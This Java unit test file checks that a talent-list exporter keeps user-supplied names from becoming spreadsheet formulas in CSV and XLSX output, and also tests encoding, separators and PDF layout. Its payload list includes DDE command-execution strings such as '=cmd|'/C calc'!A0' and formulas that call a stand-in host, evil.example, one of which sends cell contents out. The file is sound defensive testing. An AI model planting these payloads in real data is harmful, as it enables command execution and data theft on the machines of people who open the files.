package io.taalentio.documents.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.taalentio.core.export.ExportColumn;
import io.taalentio.core.export.ExportFormat;
import io.taalentio.core.export.ListDocuments;
import io.taalentio.core.export.ListDocuments.Cell;
import io.taalentio.core.export.ListDocuments.Head;
import io.taalentio.core.kernel.Formulas;
import io.taalentio.core.kernel.Language;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class WrittenListsTest {

    private static final LocalDate DAY = LocalDate.of(2026, 11, 25);
    private static final List<ExportColumn> COLUMNS =
            List.of(ExportColumn.CODE, ExportColumn.LAST_NAME, ExportColumn.SCORE, ExportColumn.REGISTERED);

    /** What people have been known to write where a name was asked for. */
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "=WEBSERVICE(\"http://evil.example/?\"&A1)",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "=SUM(A1:A9)*cmd|' /C notepad'!'A1'",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "+221771234567",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "  =1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "\"=1+1",
            "'=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "Awa;=1+1",
            "Awa,=1+1",
            "Awa\n=1+1",
            "Awa\";=1+1",
            "|calc",
            "%0A=1+1");

    private static byte[] written(ExportFormat format, Language language, List<List<Cell>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ListDocuments.Rows document =
                new WrittenLists().begin(format, new Head("Liste des talents", DAY, language, COLUMNS), out)) {
            for (List<Cell> row : rows) {
                document.add(row);
            }
            document.finish();
        }
        return out.toByteArray();
    }

    private static List<Cell> row(String name) {
        return List.of(new Cell.Text("SNF0001DAK"), new Cell.Text(name), new Cell.Amount(85), new Cell.Day(DAY));
    }

    @Test
    void none_of_the_known_payloads_begins_a_formula_in_a_text_table() throws IOException {
        assertThat(FORMULAS).hasSizeGreaterThanOrEqualTo(30);
        for (Language language : Language.values()) {
            String csv = new String(
                    written(
                            ExportFormat.CSV,
                            language,
                            FORMULAS.stream().map(WrittenListsTest::row).toList()),
                    StandardCharsets.UTF_8);
            // Read by programmes that split at any sign, with and without regard for quotation marks.
            for (String separators : List.of(";", ",", "\t", "|", ";,\t|")) {
                for (boolean quotes : List.of(true, false)) {
                    assertThat(cells(csv, separators, quotes))
                            .as("split at %s, quotes %s", separators, quotes)
                            .noneMatch(cell ->
                                    cell.strip().replaceFirst("^\"+", "").matches("(?s)[=+\\-@＝＋－＠].*"));
                }
            }
        }
    }

    private static List<String> cells(String csv, String separators, boolean heedsQuotes) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (heedsQuotes && c == '"' && (quoted || cell.isEmpty())) {
                quoted = !quoted;
            } else if (!quoted && (separators.indexOf(c) >= 0 || c == '\r' || c == '\n')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        return cells;
    }

    @Test
    void none_of_the_known_payloads_is_a_formula_in_a_workbook() throws IOException {
        byte[] xlsx = written(
                ExportFormat.XLSX,
                Language.FR,
                FORMULAS.stream().map(WrittenListsTest::row).toList());
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            for (int i = 0; i < FORMULAS.size(); i++) {
                var cell = sheet.getRow(i + 1).getCell(1);
                assertThat(cell.getCellType()).as(FORMULAS.get(i)).isEqualTo(CellType.STRING);
                if (Formulas.suspicious(FORMULAS.get(i))) {
                    assertThat(cell.getCellStyle().getQuotePrefixed())
                            .as(FORMULAS.get(i))
                            .isTrue();
                }
            }
        }
        assertThat(part(xlsx, "xl/worksheets/sheet1.xml")).doesNotContain("<f>").doesNotContain("<f ");
    }

    private static String part(byte[] zip, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError("no part " + name);
    }

    @Test
    void a_text_table_is_utf8_with_a_byte_order_mark_and_the_separator_of_its_language() throws IOException {
        byte[] french = written(ExportFormat.CSV, Language.FR, List.of(row("N’Diaye; Aïssatou")));
        assertThat(french).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(french, StandardCharsets.UTF_8)).isEqualTo("""
                        \uFEFFCode;Nom;Complétude (%);Inscription\r
                        SNF0001DAK;"N’Diaye; Aïssatou";85;2026-11-25\r
                        """);
        assertThat(new String(written(ExportFormat.CSV, Language.EN, List.of(row("O\"Neil"))), StandardCharsets.UTF_8))
                .isEqualTo("""
                        \uFEFFCode,Last name,Completeness (%),Registered\r
                        SNF0001DAK,"O""Neil",85,2026-11-25\r
                        """);
    }

    @Test
    void a_workbook_keeps_numbers_as_numbers_and_days_as_days() throws IOException {
        byte[] xlsx = written(ExportFormat.XLSX, Language.EN, List.of(row("Diop"), row("Sarr")));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            assertThat(sheet.getRow(0).getCell(1).getStringCellValue()).isEqualTo("Last name");
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo("Sarr");
            assertThat(sheet.getRow(1).getCell(2).getNumericCellValue()).isEqualTo(85);
            assertThat(sheet.getRow(1).getCell(3).getLocalDateTimeCellValue().toLocalDate())
                    .isEqualTo(DAY);
        }
    }

    @Test
    void a_printed_list_fills_as_many_landscape_pages_as_it_needs() throws IOException {
        List<List<Cell>> rows = new ArrayList<>();
        for (int i = 0; i < 120; i++) {
            rows.add(row("Nom très long qui ne tient pas sur une seule ligne, numéro " + i));
        }
        try (PDDocument pdf = Loader.loadPDF(written(ExportFormat.PDF, Language.FR, rows))) {
            assertThat(pdf.getNumberOfPages()).isBetween(4, 10);
            pdf.getPages().forEach(page -> assertThat(page.getMediaBox().getWidth())
                    .isGreaterThan(page.getMediaBox().getHeight()));
            String text = new PDFTextStripper().getText(pdf);
            assertThat(text).contains("Liste des talents", "Remarques", "25/11/2026", "numéro 0", "numéro 119");
        }
    }
}
